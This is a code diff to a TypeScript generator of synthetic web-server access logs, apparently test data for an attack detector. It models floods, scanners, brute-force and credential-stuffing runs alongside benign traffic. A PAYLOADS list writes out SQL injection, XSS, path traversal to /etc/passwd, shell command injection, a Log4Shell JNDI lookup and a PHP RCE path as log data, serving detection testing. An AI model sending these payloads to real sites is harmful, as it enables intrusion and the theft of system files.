@@ -3,19 +3,25 @@
  * Every actor (visitor, crawler, attacker) is a stream of timed requests; a heap merges them in time order,
  * so memory grows with the number of actors, not lines.
  *
- * Actors: normal visitors (browsing sessions with page assets, pauses, the odd 404 or login), crawlers (a
- * steady pace over the whole day), one very heavy but normal client (an office behind NAT), and unless
- * disabled: HULK-style floods (random query strings and agents), admin-path scanners and a login brute force.
+ * The day always has normal visitors (browsing sessions with page assets, pauses, the odd 404 or login),
+ * crawlers and an office behind NAT. On top come scenario families (FAMILIES): the attacks logwarden must
+ * catch, alone or spread over many addresses, and the benign traffic that looks like them and must not be
+ * blocked. Every family draws its sizes and rates from ranges, so that no detector can key on one number.
  */
 import { seededRandom } from '../detect/cluster.js';
 
-export type ActorLabel = 'normal' | 'crawler' | 'heavy' | 'flood' | 'scanner' | 'bruteforce';
+/** What an actor is: an attack kind (as detect names them) or a kind of benign traffic. */
+export type ActorLabel = 'normal' | 'crawler' | 'office' | 'flood' | 'scan' | 'brute-force' | 'crowd' | 'monitor' | 'poller' | 'feed' | 'icons' | 'proxy';
+
+export const ATTACK_LABELS: readonly ActorLabel[] = ['flood', 'scan', 'brute-force'];
 
 export interface GenerateOptions {
   readonly lines: number;
   readonly clients: number;
   readonly attacks: boolean;
   readonly seed: number;
+  /** Scenario families added to the day (FAMILY_NAMES); default: flood, scan, brute-force when `attacks`. */
+  readonly families?: readonly string[];
   /** Start of the day the log covers (ms since the epoch). */
   readonly start?: number;
   /** Zone offset written in timestamps, minutes east of UTC. */
@@ -25,6 +31,8 @@ export interface GenerateOptions {
 export interface Actor {
   readonly address: string;
   readonly label: ActorLabel;
+  /** The scenario family that made it (absent for the everyday traffic). */
+  readonly family?: string;
 }
 
 interface Request {
@@ -35,6 +43,8 @@ interface Request {
   bytes: number;
   referer: string;
   agent: string;
+  /** X-Forwarded-For, written as a trailing quoted field (a CDN or proxy in front of the site). */
+  forwardedFor?: string;
 }
 
 type Stream = Iterator<Request>;
@@ -84,161 +94,607 @@ const SCAN_PATHS = [
   '/owa/',
 ];
 
-export function* generateRequests(opts: GenerateOptions, actors: Actor[]): Generator<[Actor, Request]> {
-  const rand = seededRandom(opts.seed);
-  const start = opts.start ?? Date.UTC(2026, 2, 1) - (opts.tzOffset ?? 60) * 60000;
-  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
-  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
-  const used = new Set<string>();
-  const address = (v6: boolean): string => {
+const MOBILE = [
+  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1',
+  'Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36',
+  'Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
+];
+const SOCIAL = ['https://t.co/', 'https://www.facebook.com/', 'https://news.ycombinator.com/', 'https://www.reddit.com/r/travel/', 'https://l.instagram.com/'];
+const TOUCH_ICONS = [
+  '/apple-touch-icon.png',
+  '/apple-touch-icon-precomposed.png',
+  '/apple-touch-icon-120x120.png',
+  '/apple-touch-icon-152x152-precomposed.png',
+];
+/** Attack payloads a vulnerability scanner sends in parameters (templates: NUM is a number). */
+const PAYLOADS = [
+  "/products/NUM?id=NUM'%20OR%20'1'='1",
+  '/products/NUM?id=NUM%20UNION%20SELECT%20NULL,NULL,version()--',
+  '/search?q=%3Cscript%3Ealert(NUM)%3C/script%3E',
+  '/search?q=%22%3E%3Csvg/onload=alert(NUM)%3E',
+  '/download?file=../../../../etc/passwd',
+  '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
+  '/contact?email=a%40b.c%3Bcat%20/etc/passwd',
+  '/rooms?date=NUM%7Cid',
+  '/blog/post-NUM?page=1%20AND%20SLEEP(5)',
+  '/index.php?page=php://filter/convert.base64-encode/resource=index',
+  '/search?q=$%7Bjndi:ldap://x.example/a%7D',
+  "/products/NUM?sort=name'",
+  '/blog/post-NUM?id=NUM)%20AND%201=1--',
+  '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array',
+];
+
+type Label = ActorLabel;
+
+/** The everyday site and the actors that visit it: one seeded world per log. */
+class World {
+  readonly rand: () => number;
+  readonly start: number;
+  readonly streams: Array<[Actor, Stream]> = [];
+  private readonly used = new Set<string>();
+  readonly site = 'https://www.example.org';
+
+  constructor(
+    seed: number,
+    start: number,
+    private readonly actors: Actor[],
+  ) {
+    this.rand = seededRandom(seed);
+    this.start = start;
+  }
+
+  int(lo: number, hi: number): number {
+    return lo + Math.floor(this.rand() * (hi - lo + 1));
+  }
+
+  pick<T>(xs: readonly T[]): T {
+    return xs[Math.floor(this.rand() * xs.length)]!;
+  }
+
+  /** A fresh address; `net` gives its first three octets (a botnet's or an office's /24). */
+  address(v6: boolean, net?: string): string {
     for (;;) {
       const a = v6
-        ? `2001:db8:${int(1, 0xffff).toString(16)}:${int(0, 0xffff).toString(16)}::${int(1, 0xffff).toString(16)}`
-        : `${int(11, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
-      if (!a.startsWith('127.') && !used.has(a)) {
-        used.add(a);
+        ? `2001:db8:${this.int(1, 0xffff).toString(16)}:${this.int(0, 0xffff).toString(16)}::${this.int(1, 0xffff).toString(16)}`
+        : net
+          ? `${net}.${this.int(1, 254)}`
+          : `${this.int(11, 223)}.${this.int(0, 255)}.${this.int(0, 255)}.${this.int(1, 254)}`;
+      if (!a.startsWith('127.') && !this.used.has(a)) {
+        this.used.add(a);
         return a;
       }
     }
-  };
-  const page = (): string => {
-    const r = rand();
-    if (r < 0.15) return '/';
-    if (r < 0.55) return `/blog/post-${int(1, 400)}`;
-    if (r < 0.8) return `/products/${int(1, 250)}`;
-    if (r < 0.9) return `/search?q=${pick(WORDS)}`;
-    return pick(['/about', '/contact', '/rooms', '/prices']);
-  };
-  const site = 'https://www.example.org';
+  }
 
-  // A browsing visitor: sessions of pages, each followed by its assets within a second or two.
-  function* visitor(budget: number, agent: string, t0: number, span: number, pace: number): Generator<Request> {
+  page(): string {
+    const r = this.rand();
+    if (r < 0.15) return '/';
+    if (r < 0.55) return `/blog/post-${this.int(1, 400)}`;
+    if (r < 0.8) return `/products/${this.int(1, 250)}`;
+    if (r < 0.9) return `/search?q=${this.pick(WORDS)}`;
+    return this.pick(['/about', '/contact', '/rooms', '/prices']);
+  }
+
+  browser(): string {
+    return this.rand() < 0.3 ? this.pick(MOBILE) : this.pick(BROWSERS);
+  }
+
+  add(label: Label, s: Generator<Request>, opts: { v6?: boolean; net?: string; family?: string; address?: string } = {}): Actor {
+    const actor: Actor = { address: opts.address ?? this.address(opts.v6 ?? false, opts.net), label, ...(opts.family ? { family: opts.family } : {}) };
+    this.actors.push(actor);
+    this.streams.push([actor, s]);
+    return actor;
+  }
+
+  /** One page view: the page, then (usually) its assets within a second or two, referred by the page. */
+  *view(t: number, agent: string, target: string, referer: string, missing = false): Generator<Request> {
+    yield { time: t, method: 'GET', target, status: missing ? 404 : 200, bytes: missing ? 512 : this.int(4000, 60000), referer, agent };
+    if (missing || this.rand() >= 0.7) return;
+    for (const asset of ASSETS.slice(0, this.int(1, ASSETS.length))) {
+      t += this.int(0, 1) * 1000;
+      yield { time: t, method: 'GET', target: asset, status: this.rand() < 0.3 ? 304 : 200, bytes: this.int(500, 90000), referer: this.site + target, agent };
+    }
+  }
+
+  /** A browsing visitor: sessions of pages with their assets, pauses between pages and between sessions. */
+  *visitor(budget: number, agent: string | (() => string), t0: number, span: number, pace: number, extra?: () => Request | null): Generator<Request> {
     let t = t0;
     let left = budget;
+    const who = typeof agent === 'string' ? () => agent : agent;
     while (left > 0 && t < t0 + span) {
-      const pages = int(1, 12);
+      const pages = this.int(1, 12);
+      const a = who();
       for (let p = 0; p < pages && left > 0; p++) {
-        const target = page();
-        const missing = rand() < 0.02;
-        const r = rand();
-        if (r < 0.01) {
-          yield { time: t, method: 'GET', target: '/login', status: 200, bytes: 3100, referer: site + '/', agent };
-          t += int(5, 20) * 1000;
-          yield { time: t, method: 'POST', target: '/login', status: 302, bytes: 0, referer: site + '/login', agent };
+        if (this.rand() < 0.01) {
+          yield { time: t, method: 'GET', target: '/login', status: 200, bytes: 3100, referer: this.site + '/', agent: a };
+          t += this.int(5, 20) * 1000;
+          yield { time: t, method: 'POST', target: '/login', status: 302, bytes: 0, referer: this.site + '/login', agent: a };
           left -= 2;
           continue;
         }
-        yield { time: t, method: 'GET', target, status: missing ? 404 : 200, bytes: missing ? 512 : int(4000, 60000), referer: site + '/', agent };
-        left--;
-        if (!missing && rand() < 0.7) {
-          for (const asset of ASSETS.slice(0, int(1, ASSETS.length))) {
-            if (left <= 0) break;
-            t += int(0, 1) * 1000;
-            yield { time: t, method: 'GET', target: asset, status: rand() < 0.3 ? 304 : 200, bytes: int(500, 90000), referer: site + target, agent };
-            left--;
-          }
+        for (const r of this.view(t, a, this.page(), this.site + '/', this.rand() < 0.02)) {
+          if (left <= 0) break;
+          t = r.time;
+          yield r;
+          left--;
         }
-        t += int(5, 120) * 1000 * pace;
+        const more = extra?.();
+        if (more && left > 0) {
+          more.time = t + 500;
+          more.agent = a;
+          yield more;
+          left--;
+        }
+        t += this.int(5, 120) * 1000 * pace;
       }
-      t += int(10, 180) * 60000 * pace;
+      t += this.int(10, 180) * 60000 * pace;
     }
   }
 
-  function* crawler(count: number, agent: string, t0: number): Generator<Request> {
+  *crawler(count: number, agent: string, t0: number): Generator<Request> {
     let t = t0;
-    const step = (DAY - (t0 - start)) / count;
+    const step = (DAY - (t0 - this.start)) / count;
     for (let i = 0; i < count; i++) {
-      const missing = rand() < 0.05;
+      const missing = this.rand() < 0.05;
       yield {
         time: t,
         method: 'GET',
-        target: rand() < 0.05 ? '/robots.txt' : page(),
+        target: this.rand() < 0.05 ? '/robots.txt' : this.page(),
         status: missing ? 404 : 200,
-        bytes: int(3000, 50000),
+        bytes: this.int(3000, 50000),
         referer: '-',
         agent,
       };
-      t += Math.max(1000, Math.round(step * (0.5 + rand())));
+      t += Math.max(1000, Math.round(step * (0.5 + this.rand())));
     }
   }
 
-  function* flood(count: number, t0: number): Generator<Request> {
-    // HULK: the same page with a random query string and a random agent, as fast as the server answers.
-    let t = t0;
-    for (let i = 0; i < count; i++) {
-      const q = Math.floor(rand() * 1e9).toString(36);
-      yield {
-        time: Math.round(t),
-        method: 'GET',
-        target: `/?${q}=${Math.floor(rand() * 1e6)}`,
-        status: rand() < 0.1 ? 503 : 200,
-        bytes: int(0, 6000),
-        referer: `http://www.google.com/?q=${q}`,
-        agent: pick(BROWSERS) + ` r${int(1, 999)}`,
+  /** The same endpoint at a steady period all day (monitors, pollers, feed readers). */
+  *periodic(t0: number, periodMs: number, jitterMs: number, make: (i: number) => Omit<Request, 'time'>): Generator<Request> {
+    let i = 0;
+    for (let t = t0; t < this.start + DAY; t += periodMs + this.int(0, jitterMs)) yield { time: t, ...make(i++) };
+  }
+
+  /** Requests at `perMinute` (each minute drawn around it) from t0 for `minutes`. */
+  *paced(t0: number, minutes: number, perMinute: () => number, make: (t: number) => Request): Generator<Request> {
+    for (let m = 0; m < minutes; m++) {
+      const n = Math.max(1, Math.round(perMinute()));
+      for (let k = 0; k < n; k++) yield make(t0 + m * 60000 + Math.floor(((k + this.rand() * 0.9) * 60000) / n));
+    }
+  }
+
+  /** Cache-busting: a random query string on the same page. */
+  buster(path: string): string {
+    return `${path}?${Math.floor(this.rand() * 1e9).toString(36)}=${Math.floor(this.rand() * 1e6)}`;
+  }
+}
+
+/** The scenario families: what each adds to the day. `size` scales the number of actors (1 = typical). */
+interface Family {
+  readonly name: string;
+  readonly attack: boolean;
+  readonly description: string;
+  add(w: World, size: number): void;
+}
+
+const hour = 3_600_000;
+
+export const FAMILIES: readonly Family[] = [
+  {
+    name: 'flood',
+    attack: true,
+    description: 'HULK-style floods from single addresses: hundreds of requests a minute, random queries and agents',
+    add(w, size) {
+      for (let i = 0; i < 2; i++) {
+        const minutes = w.int(2, 6);
+        const rate = w.int(300, 900);
+        const t0 = w.start + w.int(2, 20) * hour;
+        w.add(
+          'flood',
+          w.paced(
+            t0,
+            Math.max(2, Math.round(minutes * size)),
+            () => rate * (0.8 + 0.4 * w.rand()),
+            (t) => ({
+              time: t,
+              method: 'GET',
+              target: w.buster('/'),
+              status: w.rand() < 0.1 ? 503 : 200,
+              bytes: w.int(0, 6000),
+              referer: `http://www.google.com/?q=${Math.floor(w.rand() * 1e9).toString(36)}`,
+              agent: `${w.pick(BROWSERS)} r${w.int(1, 999)}`,
+            }),
+          ),
+          { v6: i === 1, family: 'flood' },
+        );
+      }
+    },
+  },
+  {
+    name: 'distributed-flood',
+    attack: true,
+    description: 'a botnet: many addresses, each a mild 15-45 requests a minute for 5-20 minutes, on one page with cache-busting queries',
+    add(w, size) {
+      const members = Math.round(w.int(40, 200) * size);
+      const t0 = w.start + w.int(2, 20) * hour;
+      const minutes = w.int(5, 20);
+      const page = w.page().split('?')[0]!;
+      const nets = Array.from({ length: w.int(1, 12) }, () => `${w.int(11, 223)}.${w.int(0, 255)}.${w.int(0, 255)}`);
+      const overloaded = w.rand() * 0.5;
+      for (let i = 0; i < members; i++) {
+        const rate = w.int(15, 45);
+        const agent = w.browser();
+        const start = t0 + w.int(0, 90) * 1000;
+        w.add(
+          'flood',
+          w.paced(
+            start,
+            minutes + w.int(-2, 2),
+            () => rate * (0.7 + 0.6 * w.rand()),
+            (t) => ({
+              time: t,
+              method: 'GET',
+              target: w.buster(page),
+              status: w.rand() < overloaded ? 503 : 200,
+              bytes: w.int(0, 20000),
+              referer: w.rand() < 0.5 ? '-' : w.site + page,
+              agent,
+            }),
+          ),
+          { net: w.rand() < 0.5 ? w.pick(nets) : undefined, family: 'distributed-flood' },
+        );
+      }
+    },
+  },
+  {
+    name: 'slow-flood',
+    attack: true,
+    description: 'single addresses that never pass ~100 requests a minute but keep it up for hours (random queries, rotating agents)',
+    add(w, size) {
+      for (let i = 0, n = Math.max(1, Math.round(w.int(1, 3) * size)); i < n; i++) {
+        const rate = w.int(30, 110);
+        const minutes = w.int(90, 300);
+        const t0 = w.start + w.int(0, 18) * hour;
+        const pages = Array.from({ length: w.int(1, 4) }, () => w.page().split('?')[0]!);
+        w.add(
+          'flood',
+          w.paced(
+            t0,
+            minutes,
+            () => rate * (0.6 + 0.5 * w.rand()),
+            (t) => ({
+              time: t,
+              method: 'GET',
+              target: w.buster(w.pick(pages)),
+              status: w.rand() < 0.05 ? 503 : 200,
+              bytes: w.int(2000, 40000),
+              referer: '-',
+              agent: w.browser(),
+            }),
+          ),
+          { family: 'slow-flood' },
+        );
+      }
+    },
+  },
+  {
+    name: 'scan',
+    attack: true,
+    description: 'fast scanners probing admin panels, secrets and exploit paths, mostly answered 404',
+    add(w, size) {
+      for (let i = 0; i < 2; i++) {
+        const count = Math.max(40, Math.round(w.int(150, 300) * size));
+        const agent = w.pick(['Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)']);
+        let t = w.start + w.int(1, 22) * hour;
+        const s = function* (): Generator<Request> {
+          for (let k = 0; k < count; k++) {
+            const base = SCAN_PATHS[k % SCAN_PATHS.length]!;
+            yield {
+              time: t,
+              method: 'GET',
+              target: k < SCAN_PATHS.length ? base : `${base}${k}`,
+              status: w.rand() < 0.9 ? 404 : 403,
+              bytes: 196,
+              referer: '-',
+              agent,
+            };
+            t += w.int(100, 2000);
+          }
+        };
+        w.add('scan', s(), { family: 'scan' });
+      }
+    },
+  },
+  {
+    name: 'slow-scan',
+    attack: true,
+    description: 'vulnerability scanners throttled to a few requests a minute: they crawl the site, then send attack payloads',
+    add(w, size) {
+      for (let i = 0, n = Math.max(1, Math.round(w.int(1, 3) * size)); i < n; i++) {
+        const perMinute = 1 + w.rand() * 5;
+        const count = w.int(150, 900);
+        const agent = w.rand() < 0.5 ? w.pick(BROWSERS) : w.pick(['Mozilla/5.0 (compatible; scanner)', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)']);
+        let t = w.start + w.int(0, 16) * hour;
+        const s = function* (): Generator<Request> {
+          for (let k = 0; k < count; k++) {
+            const r = w.rand();
+            let target: string;
+            let status: number;
+            if (r < 0.25) {
+              target = w.page();
+              status = 200;
+            } else if (r < 0.45) {
+              target = w.pick(SCAN_PATHS);
+              status = w.rand() < 0.85 ? 404 : 403;
+            } else {
+              target = w.pick(PAYLOADS).replace(/NUM/g, String(w.int(1, 250)));
+              status = w.pick([200, 200, 400, 403, 404, 500]);
+            }
+            yield { time: t, method: w.rand() < 0.1 ? 'POST' : 'GET', target, status, bytes: w.int(150, 9000), referer: '-', agent };
+            t += Math.round((60000 / perMinute) * (0.3 + 1.4 * w.rand()));
+          }
+        };
+        w.add('scan', s(), { family: 'slow-scan' });
+      }
+    },
+  },
+  {
+    name: 'brute-force',
+    attack: true,
+    description: 'a login brute force from one address: a POST every few seconds for hours',
+    add(w, size) {
+      const count = Math.max(40, Math.round(400 * size));
+      const path = w.pick(['/wp-login.php', '/login', '/administrator/index.php']);
+      let t = w.start + w.int(1, 18) * hour;
+      const s = function* (): Generator<Request> {
+        for (let k = 0; k < count; k++) {
+          if (k % 25 === 0) yield { time: t, method: 'GET', target: path, status: 200, bytes: 4800, referer: '-', agent: BROWSERS[0]! };
+          yield { time: t, method: 'POST', target: path, status: 200, bytes: 4950, referer: w.site + path, agent: BROWSERS[0]! };
+          t += w.int(5, 30) * 1000;
+        }
       };
-      t += 60000 / int(400, 900);
-    }
-  }
+      w.add('brute-force', s(), { family: 'brute-force' });
+    },
+  },
+  {
+    name: 'credential-stuffing',
+    attack: true,
+    description: 'a login run spread over many addresses: each posts a handful of passwords within the same half hour',
+    add(w, size) {
+      const members = Math.round(w.int(30, 150) * size);
+      const t0 = w.start + w.int(1, 20) * hour;
+      const window = w.int(10, 45) * 60000;
+      const path = w.pick(['/login', '/wp-login.php', '/api/v1/session', '/user/login']);
+      for (let i = 0; i < members; i++) {
+        const tries = w.int(3, 15);
+        const agent = w.browser();
+        let t = t0 + Math.floor(w.rand() * window * 0.5);
+        const s = function* (): Generator<Request> {
+          if (w.rand() < 0.5) yield { time: t, method: 'GET', target: path, status: 200, bytes: 3100, referer: '-', agent };
+          for (let k = 0; k < tries; k++) {
+            t += w.int(2, 60) * 1000;
+            yield {
+              time: t,
+              method: 'POST',
+              target: path,
+              status: w.rand() < 0.5 ? 401 : 200,
+              bytes: w.int(200, 3200),
+              referer: w.rand() < 0.5 ? '-' : w.site + path,
+              agent,
+            };
+          }
+        };
+        w.add('brute-force', s(), { family: 'credential-stuffing' });
+      }
+    },
+  },
+  {
+    name: 'flash-crowd',
+    attack: false,
+    description: 'hundreds of real visitors arriving within minutes on one page from a social link, loading its assets',
+    add(w, size) {
+      const members = Math.round(w.int(80, 400) * size);
+      const t0 = w.start + w.int(8, 20) * hour;
+      const page = `/blog/post-${w.int(1, 400)}`;
+      const from = w.pick(SOCIAL);
+      for (let i = 0; i < members; i++) {
+        const agent = w.browser();
+        const t = t0 + Math.floor(w.rand() * w.int(3, 10) * 60000);
+        const s = function* (): Generator<Request> {
+          let at = t;
+          for (const r of w.view(at, agent, page, from)) {
+            at = r.time;
+            yield r;
+          }
+          for (let k = w.int(0, 3); k > 0; k--) {
+            at += w.int(10, 90) * 1000;
+            for (const r of w.view(at, agent, w.page(), w.site + page)) {
+              at = r.time;
+              yield r;
+            }
+          }
+        };
+        w.add('crowd', s(), { v6: w.rand() < 0.2, family: 'flash-crowd' });
+      }
+    },
+  },
+  {
+    name: 'monitors',
+    attack: false,
+    description: 'uptime monitors: the same URL every 30 s to 5 min, all day',
+    add(w) {
+      for (let i = 0, n = w.int(1, 3); i < n; i++) {
+        const period = w.pick([30, 60, 60, 300]) * 1000;
+        const target = w.pick(['/', '/health', '/status', '/api/health']);
+        const method = w.rand() < 0.5 ? 'HEAD' : 'GET';
+        const agent = w.pick([
+          'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
+          'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
+          'Blackbox Exporter/0.24.0',
+        ]);
+        w.add(
+          'monitor',
+          w.periodic(w.start + w.int(0, 60000), period, 2000, () => ({
+            method,
+            target,
+            status: 200,
+            bytes: method === 'HEAD' ? 0 : 1200,
+            referer: '-',
+            agent,
+          })),
+          { family: 'monitors' },
+        );
+      }
+    },
+  },
+  {
+    name: 'crawlers',
+    attack: false,
+    description: 'well-behaved search crawlers: many pages all day at a polite pace, the odd 404 and robots.txt',
+    add(w, size) {
+      for (const agent of [
+        ...CRAWLERS,
+        'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
+        'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)',
+      ]) {
+        w.add('crawler', w.crawler(Math.round(w.int(1500, 6000) * size), agent, w.start + w.int(0, hour)), { family: 'crawlers' });
+      }
+    },
+  },
+  {
+    name: 'touch-icons',
+    attack: false,
+    description: 'phones browsing normally that ask again and again for missing apple-touch-icon and favicon files',
+    add(w, size) {
+      for (let i = 0, n = Math.max(2, Math.round(w.int(3, 10) * size)); i < n; i++) {
+        const agent = w.pick(MOBILE);
+        const miss = (): Request | null =>
+          w.rand() < 0.6 ? { time: 0, method: 'GET', target: w.pick([...TOUCH_ICONS, '/favicon.ico']), status: 404, bytes: 209, referer: '-', agent } : null;
+        w.add('icons', w.visitor(w.int(20, 120), agent, w.start + Math.floor(w.rand() * DAY * 0.8), DAY, 0.5, miss), { family: 'touch-icons' });
+      }
+    },
+  },
+  {
+    name: 'office-nat',
+    attack: false,
+    description: 'offices behind one NAT address: dozens of people browsing through working hours',
+    add(w, size) {
+      for (let i = 0, n = w.int(1, 3); i < n; i++) {
+        const people = Array.from({ length: w.int(10, 60) }, () => w.browser());
+        const budget = Math.round(w.int(2000, 9000) * size);
+        w.add(
+          'office',
+          w.visitor(budget, () => w.pick(people), w.start + w.int(6, 9) * hour, w.int(8, 11) * hour, 0.03),
+          { family: 'office-nat' },
+        );
+      }
+    },
+  },
+  {
+    name: 'api-pollers',
+    attack: false,
+    description: 'API clients polling one endpoint every few seconds all day, a new timestamp in each query',
+    add(w) {
+      for (let i = 0, n = w.int(1, 3); i < n; i++) {
+        const period = w.int(5, 30) * 1000;
+        const agent = w.pick(['okhttp/4.12.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'axios/1.6.2']);
+        const target = w.pick(['/api/v1/status', '/api/v1/prices', '/api/v1/availability']);
+        let since = 0;
+        w.add(
+          'poller',
+          w.periodic(w.start + w.int(0, 60000), period, 1000, () => ({
+            method: 'GET',
+            target: `${target}?since=${1700000000 + (since += period / 1000)}`,
+            status: w.rand() < 0.5 ? 200 : 304,
+            bytes: w.int(0, 2000),
+            referer: '-',
+            agent,
+          })),
+          { family: 'api-pollers' },
+        );
+      }
+    },
+  },
+  {
+    name: 'feed-readers',
+    attack: false,
+    description: 'feed readers fetching the RSS/Atom feed every 10-60 minutes',
+    add(w) {
+      for (let i = 0, n = w.int(2, 6); i < n; i++) {
+        const period = w.int(10, 60) * 60000;
+        const target = w.pick(['/feed.xml', '/rss', '/atom.xml']);
+        const agent = w.pick(['Feedly/1.0 (+http://www.feedly.com/fetcher.html)', 'NewsBlur Feed Fetcher', 'Tiny Tiny RSS/22.08', 'FreshRSS/1.21']);
+        w.add(
+          'feed',
+          w.periodic(w.start + w.int(0, period), period, 60000, () => ({
+            method: 'GET',
+            target,
+            status: w.rand() < 0.8 ? 304 : 200,
+            bytes: 0,
+            referer: '-',
+            agent,
+          })),
+          { family: 'feed-readers' },
+        );
+      }
+    },
+  },
+  {
+    name: 'cdn-proxy',
+    attack: false,
+    description: 'a CDN or reverse proxy in front of the site: a few addresses carry many visitors (X-Forwarded-For names them)',
+    add(w, size) {
+      for (let i = 0, n = w.int(2, 4); i < n; i++) {
+        const proxy = w.address(false, '198.51.100');
+        const visitors = Math.round(w.int(40, 150) * size);
+        for (let v = 0; v < visitors; v++) {
+          const real = w.address(w.rand() < 0.2);
+          const inner = w.visitor(w.int(10, 80), w.browser(), w.start + Math.floor(w.rand() * DAY * 0.9), DAY, 1);
+          const s = function* (): Generator<Request> {
+            for (const r of inner) yield { ...r, forwardedFor: real };
+          };
+          // Every visitor behind the proxy is its own stream; the proxy's address is the one the log shows.
+          w.streams.push([{ address: proxy, label: 'proxy', family: 'cdn-proxy' }, s()]);
+        }
+        w.add('proxy', (function* () {})(), { address: proxy, family: 'cdn-proxy' });
+      }
+    },
+  },
+];
 
-  function* scanner(count: number, t0: number): Generator<Request> {
-    let t = t0;
-    const agent = pick(['Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)']);
-    for (let i = 0; i < count; i++) {
-      const base = SCAN_PATHS[i % SCAN_PATHS.length]!;
-      const target = i < SCAN_PATHS.length ? base : `${base}${i}`;
-      yield { time: t, method: 'GET', target, status: rand() < 0.9 ? 404 : 403, bytes: 196, referer: '-', agent };
-      t += int(100, 2000);
-    }
-  }
+export const FAMILY_NAMES: readonly string[] = FAMILIES.map((f) => f.name);
+export const CLASSIC_FAMILIES: readonly string[] = ['flood', 'scan', 'brute-force'];
 
-  function* bruteForce(count: number, t0: number): Generator<Request> {
-    let t = t0;
-    for (let i = 0; i < count; i++) {
-      if (i % 25 === 0) yield { time: t, method: 'GET', target: '/wp-login.php', status: 200, bytes: 4800, referer: '-', agent: BROWSERS[0]! };
-      yield { time: t, method: 'POST', target: '/wp-login.php', status: 200, bytes: 4950, referer: `${site}/wp-login.php`, agent: BROWSERS[0]! };
-      t += int(5, 30) * 1000;
-    }
-  }
-
-  const streams: Array<[Actor, Stream]> = [];
-  const add = (label: ActorLabel, v6: boolean, s: Generator<Request>) => {
-    const actor = { address: address(v6), label };
-    actors.push(actor);
-    streams.push([actor, s]);
-  };
+export function* generateRequests(opts: GenerateOptions, actors: Actor[]): Generator<[Actor, Request]> {
+  const start = opts.start ?? Date.UTC(2026, 2, 1) - (opts.tzOffset ?? 60) * 60000;
+  const w = new World(opts.seed, start, actors);
   const scale = Math.max(0.05, Math.min(1, opts.lines / 20000));
-  let reserved = 0;
-  if (opts.attacks) {
-    for (let i = 0; i < 2; i++) {
-      const n = Math.round(int(1500, 3000) * scale);
-      reserved += n;
-      add('flood', i === 1, flood(n, start + int(2, 20) * 3_600_000));
-    }
-    for (let i = 0; i < 2; i++) {
-      const n = Math.max(40, Math.round(int(150, 300) * scale));
-      reserved += n;
-      add('scanner', false, scanner(n, start + int(1, 22) * 3_600_000));
-    }
-    const n = Math.max(40, Math.round(400 * scale));
-    reserved += n;
-    add('bruteforce', false, bruteForce(n, start + int(1, 18) * 3_600_000));
+  const families = opts.families ?? (opts.attacks ? CLASSIC_FAMILIES : []);
+  for (const name of families) {
+    const f = FAMILIES.find((x) => x.name === name);
+    if (!f) throw new Error(`unknown scenario family "${name}" (one of ${FAMILY_NAMES.join(', ')})`);
+    f.add(w, scale);
   }
+  let reserved = 0;
   for (const agent of CRAWLERS) {
-    const n = Math.round(int(300, 800) * scale);
+    const n = Math.round(w.int(300, 800) * scale);
     reserved += n;
-    add('crawler', false, crawler(n, agent, start + int(0, 3_600_000)));
+    w.add('crawler', w.crawler(n, agent, start + w.int(0, hour)));
   }
   // An office behind NAT: many people, many assets, all day, but no one minute looks like a flood.
-  const heavy = Math.round(4000 * scale);
-  reserved += heavy;
-  add('heavy', false, visitor(heavy, BROWSERS[2]!, start + 7 * 3_600_000, 11 * 3_600_000, 0.1));
+  reserved += Math.round(4000 * scale);
+  w.add('office', w.visitor(Math.round(4000 * scale), BROWSERS[2]!, start + 7 * hour, 11 * hour, 0.1));
+  // Normal visitors share what the everyday actors leave of the lines asked for.
   const perVisitor = Math.max(1, (opts.lines - reserved) / Math.max(1, opts.clients));
   for (let i = 0; i < opts.clients; i++) {
-    const budget = Math.max(1, Math.round(perVisitor * (0.3 + 1.4 * rand())));
-    add('normal', rand() < 0.1, visitor(budget, pick(BROWSERS), start + Math.floor(rand() * DAY * 0.9), DAY, 1));
+    const budget = Math.max(1, Math.round(perVisitor * (0.3 + 1.4 * w.rand())));
+    w.add('normal', w.visitor(budget, w.pick(BROWSERS), start + Math.floor(w.rand() * DAY * 0.9), DAY, 1), { v6: w.rand() < 0.1 });
   }
+  yield* mergeStreams(w.streams);
+}
 
-  // Merge the streams in time order with a binary heap keyed by each stream's next request time.
+/** The streams merged in time order, with a binary heap keyed by each stream's next request time. */
+function* mergeStreams(streams: Array<[Actor, Stream]>): Generator<[Actor, Request]> {
   const heap: Array<[number, Request, Actor, Stream]> = [];
   const up = (i: number) => {
     while (i > 0) {
@@ -308,6 +764,7 @@ export function* generateLog(opts: GenerateOptions, actors: Actor[]): Generator<
       lastSecond = second;
       stamp = clfTime(second * 1000, tz);
     }
-    yield `${actor.address} - - [${stamp}] "${r.method} ${r.target} HTTP/1.1" ${r.status} ${r.bytes} "${r.referer}" "${r.agent}"`;
+    const xff = r.forwardedFor ? ` "${r.forwardedFor}"` : '';
+    yield `${actor.address} - - [${stamp}] "${r.method} ${r.target} HTTP/1.1" ${r.status} ${r.bytes} "${r.referer}" "${r.agent}"${xff}`;
   }
 }
